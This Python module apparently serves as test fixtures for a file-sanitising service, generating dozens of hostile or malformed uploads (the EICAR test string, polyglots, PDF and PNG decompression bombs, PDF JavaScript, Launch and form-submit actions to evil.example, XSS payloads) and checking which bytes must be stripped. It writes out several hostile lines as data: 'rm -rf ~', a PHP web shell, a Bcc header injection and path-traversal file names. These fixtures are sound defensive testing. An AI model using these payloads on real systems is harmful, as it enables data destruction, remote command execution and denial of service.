"""Bad files, made here and kept nowhere: each with what it tries, and what of it must not be in anything we keep.

The mark of the EICAR test is written in parts, so that no scanner takes this file for one.
"""

import io
import struct
import zlib

import pikepdf

from cast import good_files as good
from cast.bad_folders import OLE, PROGRAM, Bad, folders, office

EICAR = "X5O!P%@AP[4" + "\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS" + "-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.cookie)</script>"


def bad_files():
    """All of them: more than sixty."""
    return [
        *viruses_and_programs(),
        *folders(),
        *office(),
        *pictures(),
        *polyglots(),
        *pages(),
        *pdfs(),
        *mails(),
        *sounds(),
        *names(),
    ]


def viruses_and_programs():
    mark = EICAR.encode()
    yield Bad("the test virus", "notes.txt", mark, mark[:30])
    yield Bad("the test virus in a PDF", "letter.pdf", good.a_pdf() + mark, mark[:30])
    yield Bad(
        "the test virus attached to an e-mail",
        "mail.eml",
        good.a_mail(attached=[("a.com", "application/octet-stream", mark)]),
        b"WDVPIVAlQEFQ",
    )
    yield Bad("a program called a photo", "photo.jpg", PROGRAM, PROGRAM[:5])
    yield Bad("a Linux program", "letter.pdf", b"\x7fELF\x02\x01\x01" + bytes(200))
    yield Bad("a script for a shell", "read me.txt", b"#!/bin/sh\nrm -rf ~\n", b"rm -rf")
    yield Bad("a script for Windows", "read me.txt", b"@echo off\r\ndel c:\\*.*\r\n", b"@echo")
    yield Bad("a shortcut", "report.pdf.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60))
    yield Bad("a program on a server", "note.txt", b"<?php system($_GET['c']); ?>", b"system(")


def pictures():
    yield Bad("a picture of 50,000 by 50,000 dots", "photo.png", good.a_png_that_says(50_000, 50_000))
    yield Bad("a picture of four thousand million dots a side", "photo.png", good.a_png_that_says(2**31 - 1, 2**31 - 1))
    yield Bad("a real picture of 200 million dots in a few bytes", "photo.png", _a_dark_picture(20_000, 10_000))
    yield Bad(
        "a GIF that says it is 65,535 a side",
        "photo.gif",
        b"GIF89a\xff\xff\xff\xff\x80\x00\x00" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\x02\x02L\x01\0;",
    )
    yield Bad("a photo cut off", "photo.jpg", good.a_picture(size=(800, 600))[:900])
    yield Bad("a PNG cut off", "photo.png", good.a_picture("PNG", size=(300, 300))[:60])
    yield Bad("three bytes of a photo", "photo.jpg", b"\xff\xd8\xff")
    yield Bad("a phone's picture that is none", "photo.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(400))
    yield Bad("a web picture that is none", "photo.webp", b"RIFF\xff\xff\xff\xffWEBPVP8L" + bytes(40))
    yield Bad("a PNG whose text is a bomb", "photo.png", _with_text_chunk(zlib.compress(bytes(30_000_000))))
    yield Bad("where the photo was taken", "photo.jpg", good.a_photo_with_a_place(), b"PhoneMaker")


def polyglots():
    script = b"/*" + SCRIPT + b"*/=1;alert(1)"
    yield Bad("a GIF that is a script, too", "photo.gif", good.a_picture("GIF") + script, SCRIPT)
    yield Bad(
        "a photo that is a folder, too",
        "photo.jpg",
        good.a_picture() + good.a_folder([("a.exe", PROGRAM)]),
        b"PK\x03\x04",
    )
    yield Bad("a photo with a page in its comment", "photo.jpg", good.a_picture(comment=SCRIPT), SCRIPT)
    yield Bad("a PDF that is a page, too", "letter.pdf", good.a_pdf() + b"\n<html>" + SCRIPT, SCRIPT)
    yield Bad("a page before a PDF", "letter.pdf", b"<html>" + SCRIPT + b"-->" + good.a_pdf(), SCRIPT)
    yield Bad(
        "a PDF that is a folder, too", "letter.pdf", good.a_pdf() + good.a_folder([("a.exe", PROGRAM)]), b"PK\x03\x04"
    )
    yield Bad(
        "a Word file that is a page, too", "report.docx", good.a_word_file(more=[("page.html", SCRIPT)]), b"page.html"
    )
    yield Bad("a recording that is a page, too", "sound.wav", good.a_tone() + SCRIPT, SCRIPT)


def pages():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield Bad("a drawing with a script", "drawing.svg", svg, b"<script")
    yield Bad("the same, called a photo", "drawing.png", b'<?xml version="1.0"?>\n<!-- a -->' + svg, b"<script")
    yield Bad("a page called a photo", "photo.jpg", b"<!DOCTYPE html><html>" + SCRIPT, SCRIPT)
    yield Bad("a page in UTF-16", "note.txt", ("<html>" + SCRIPT.decode()).encode("utf-16"), b"s\0c\0r\0i\0p\0t")
    yield Bad("a page after a few words", "note.txt", b"Hello\n" + b"<html>" + SCRIPT, SCRIPT)
    yield Bad("text that holds nought bytes", "note.txt", b"Hello\0<script>", b"<script>")
    yield Bad("UTF-16 that is none", "note.txt", b"\xff\xfe\x00\xd8\x41")
    yield Bad(
        "an XML file that names itself a billion times",
        "a.xml",
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa">]><l>&a;</l>',
        b"ENTITY",
    )


def pdfs():
    name = pikepdf.Name

    def script(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(S=name.JavaScript, JS="app.alert(1)")

    def launch(pdf):
        act = pikepdf.Dictionary(S=name.Launch, F="cmd.exe")
        pdf.pages[0].Annots = [
            pdf.make_indirect(pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=act))
        ]

    def inside(pdf):
        pdf.attachments["evil.exe"] = PROGRAM

    def named(pdf):
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=["a", pikepdf.Dictionary(S=name.JavaScript, JS="app.alert(2)")])
        )

    def sends(pdf):
        pdf.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=name.SubmitForm, F="http://evil.example"))

    def xfa(pdf):
        pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(SCRIPT), Fields=[])

    yield Bad("a PDF with a script", "letter.pdf", good.a_pdf(change=script), b"app.alert")
    yield Bad("a PDF that starts a program", "letter.pdf", good.a_pdf(change=launch), b"cmd.exe")
    yield Bad("a PDF with a program inside", "letter.pdf", good.a_pdf(change=inside), b"evil.exe")
    yield Bad("a PDF with scripts by name", "letter.pdf", good.a_pdf(change=named), b"app.alert")
    yield Bad("a PDF that sends itself", "letter.pdf", good.a_pdf(change=sends), b"evil.example")
    yield Bad("a PDF with a form that is a program", "letter.pdf", good.a_pdf(change=xfa), SCRIPT)
    yield Bad(
        "a PDF with a password", "letter.pdf", good.a_pdf(encryption=pikepdf.Encryption(user="secret", owner="secret"))
    )
    yield Bad("a PDF cut off after its head", "letter.pdf", good.a_pdf()[:40])
    yield Bad(
        "a PDF with no page",
        "letter.pdf",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>",
    )
    yield Bad("a PDF a page of which is a bomb", "letter.pdf", _pdf_bomb())


def mails():
    deep = b"Subject: x\r\nFrom: a@b.example\r\n"
    for number in range(60):
        deep += b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (number, number)
    yield Bad("an e-mail in parts in parts in parts", "mail.eml", deep + b"Content-Type: text/plain\r\n\r\nx")
    wide = b"".join(b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n" for _ in range(20_000))
    yield Bad(
        "an e-mail of twenty thousand parts",
        "mail.eml",
        b'From: a@b.example\r\nTo: c@d.example\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n' + wide,
    )
    yield Bad(
        "an e-mail with a header of 5 MB",
        "mail.eml",
        b"From: a@b.example\r\nTo: c@d.example\r\nSubject: " + b"A" * 5_000_000 + b"\r\n\r\nx",
    )
    yield Bad(
        "an e-mail with a million names in a header",
        "mail.eml",
        b"From: a@b.example\r\nSubject: x\r\nTo: " + b'"(((((' * 30_000 + b"\r\n\r\nx",
    )
    yield Bad(
        "an e-mail with a page",
        "mail.eml",
        b"From: a@b.example\r\nTo: c@d.example\r\nContent-Type: text/html\r\n\r\n<p>Hello</p>" + SCRIPT,
        SCRIPT,
    )
    yield Bad(
        "an e-mail with a program attached",
        "mail.eml",
        good.a_mail(attached=[("a.exe", "image/jpeg", PROGRAM)]),
        b'a.exe"',
    )
    yield Bad(
        "an e-mail that writes a second header",
        "mail.eml",
        good.a_mail(subject="x =?utf-8?q?=0D=0ABcc=3A_all=40evil.example?="),
        b"\nBcc:",
    )
    yield Bad("an Outlook e-mail that is none", "mail.msg", OLE + b"\x3e\x00\x03\x00\xfe\xff\x09\x00" + b"\xff" * 3000)
    yield Bad("an Outlook e-mail cut off", "mail.msg", OLE)


def sounds():
    tone = good.a_tone()
    yield Bad(
        "a recording that says it has 4 GB",
        "sound.wav",
        tone[:40] + b"\xff\xff\xff\xff" + tone[44:],
        b"\xff\xff\xff\xff",
    )
    yield Bad("a recording with no measure", "sound.wav", tone[:24] + bytes(8) + tone[32:])
    yield Bad("a recording in 60,000 channels", "sound.wav", tone[:22] + b"\x60\xea" + tone[24:])
    yield Bad("half a head of a recording", "sound.wav", tone[:20])
    yield Bad("an MP3 that is only a tag", "sound.mp3", b"ID3\x03\x00\x00\x7f\x7f\x7f\x7f" + SCRIPT)
    yield Bad(
        "an MP3 with a page in its tag",
        "sound.mp3",
        b"ID3\x03\x00\x00\x00\x00\x00\x27" + SCRIPT + good.an_mp3(),
        SCRIPT,
    )
    yield Bad("an Ogg page that is not whole", "sound.ogg", good.an_ogg()[:-6].replace(b"OpusHead", b"OpusHeax"))
    yield Bad("a film called a recording", "sound.m4a", good.an_m4a(handler=b"vide"))
    yield Bad("where the recording was made", "sound.m4a", good.an_m4a(), b"+53.4")
    yield Bad(
        "boxes that lie about their length",
        "sound.m4a",
        good.box(b"ftyp", b"M4A \0\0\0\0") + struct.pack(">I4s", 2**31, b"moov") + b"x",
    )
    yield Bad(
        "a hundred thousand empty boxes", "sound.m4a", good.box(b"ftyp", b"M4A \0\0\0\0") + good.box(b"free") * 100_000
    )


def names():
    yield Bad("nothing at all", "empty.pdf", b"")
    yield Bad("26 MB", "large.jpg", b"\xff\xd8\xff" + bytes(26_000_000))
    text = b"Mia was calm today."
    for name in (
        "../../../etc/passwd",
        "..\\..\\boot.ini",
        "note\x00.exe",
        "note\u202etxt.exe",
        "n" * 300 + ".txt",
        "con.txt\r\nX-Evil: 1",
        "<img src=x>.txt",
        "   ",
    ):
        yield Bad("a name that tries something", name, text)


def _a_dark_picture(wide, high):
    """A PNG of this many dots, all dark: small on the line, large when opened."""
    packer, line = zlib.compressobj(9), bytes(1 + (wide + 7) // 8)
    packed = b"".join(packer.compress(line) for _ in range(high)) + packer.flush()
    head = struct.pack(">IIBBBBB", wide, high, 1, 0, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", packed), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data)) for name, data in parts
    )


def _with_text_chunk(packed):
    picture = good.a_picture("PNG")
    data = b"Comment\0\0" + packed
    chunk = struct.pack(">I", len(data)) + b"zTXt" + data + struct.pack(">I", zlib.crc32(b"zTXt" + data))
    return picture[:33] + chunk + picture[33:]


def _pdf_bomb():
    """A PDF whose page unpacks into 200 MB of drawing."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(200, 200))
    packed = zlib.compress(zlib.compress(b"0 0 m 9 9 l S " * 14_000_000, 1), 9)
    page.Contents = pikepdf.Stream(pdf, packed, Filter=[pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)
    return out.getvalue()
